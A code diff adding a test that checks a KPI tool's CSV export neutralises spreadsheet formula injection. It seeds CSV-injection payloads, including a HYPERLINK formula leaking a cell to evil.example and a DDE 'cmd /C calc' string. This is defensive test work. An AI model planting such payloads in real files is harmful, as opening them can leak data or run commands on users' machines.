@@ -5,6 +5,7 @@
 import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
 import os from "node:os";
 import path from "node:path";
+import { parse } from "csv-parse/sync";
 import ExcelJS from "exceljs";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import type { IndicatorRecord } from "../../src/core/ports.ts";
@@ -39,6 +40,33 @@ const shape = (r: IndicatorRecord) => ({
   targets: r.targets.map((t) => `${t.period.label}: ${t.text}`).sort(),
   results: r.results.map((x) => `${x.period.label}: ${x.text} ${x.numerator ?? ""}/${x.denominator ?? ""} ${x.dotShortRecorded ?? ""} ${x.dotLongRecorded ?? ""}`).sort(),
 });
+
+/** Text Excel would run as a formula, written into the demo's AC/S4 (title, benchmark, targets), a comment and AC/S8's benchmark, and a negative target beside them. */
+const FORMULAS = {
+  title: '=HYPERLINK("http://evil.example/?"&A1,"Carers")',
+  benchmark: "-cmd|' /C calc'!A0",
+  comment: "@SUM(1+1)*cmd|' /C calc'!A0",
+  target: "+2+3",
+  alreadyQuoted: "'=1+1",
+};
+
+async function withFormulas(url: string) {
+  const { database } = await prepareDatabase({ DATABASE_URL: url, loadDemoData: false });
+  try {
+    const db = database.db;
+    const indicator = await db.indicator.findFirstOrThrow({ where: { ref: "AC/S4", organisation: { name: BARNET } } });
+    await db.indicator.update({ where: { id: indicator.id }, data: { title: FORMULAS.title, benchmarkText: FORMULAS.benchmark } });
+    const comment = await db.commentary.findFirstOrThrow({ where: { indicator: { organisation: { name: BARNET } }, periodId: { not: null } }, orderBy: { id: "desc" } });
+    await db.commentary.update({ where: { id: comment.id }, data: { text: FORMULAS.comment } });
+    const [first, second] = await db.target.findMany({ where: { indicatorId: indicator.id }, orderBy: { id: "asc" } });
+    await db.target.update({ where: { id: first!.id }, data: { text: FORMULAS.target, value: null } });
+    await db.target.update({ where: { id: second!.id }, data: { text: "-5%", value: -5 } });
+    const other = await db.indicator.findFirstOrThrow({ where: { ref: "AC/S8", organisation: { name: BARNET } } });
+    await db.indicator.update({ where: { id: other.id }, data: { benchmarkText: FORMULAS.alreadyQuoted } });
+  } finally {
+    await database.close();
+  }
+}
 
 describe.each(providers)("importing on %s", (provider) => {
   let demo: TestDatabase;
@@ -96,11 +124,20 @@ describe.each(providers)("importing on %s", (provider) => {
     expect(await figures(empty.url, BARNET)).toEqual(before);
   });
 
-  it.each(["csv", "xlsx"])("exports the demo's indicators as %s, and importing that changes nothing", async (format) => {
+  it.each(["csv", "xlsx"])("exports the demo's indicators as %s, text a spreadsheet would run as a formula too, and importing that changes nothing", async (format) => {
+    await withFormulas(demo.url);
     const out = path.join(scratch, `${provider}-export.${format}`);
     const exported = await kpi(demo, "export", "--organisation", "barnet", "--out", out);
     expect(exported.code, exported.stderr).toBe(0);
     expect(exported.stderr).toContain("Wrote 45 indicators of London Borough of Barnet");
+    if (format === "csv") {
+      // Each such text starts with ' in the CSV; a negative figure stays a number.
+      const csv = readFileSync(out, "utf8");
+      for (const text of Object.values(FORMULAS)) expect(csv).toContain(`'${text.replace(/"/g, '""')}`);
+      const cells = (parse(csv, { bom: true, relax_column_count: true }) as string[][]).flat();
+      expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-\d+(\.\d+)?%?$/.test(c))).toEqual([]);
+      expect(cells).toContain("-5%");
+    }
     const before = await figures(demo.url, BARNET);
     const run = await kpi(demo, "import", out, "--organisation", "barnet");
     expect(run.code, run.stderr).toBe(0);
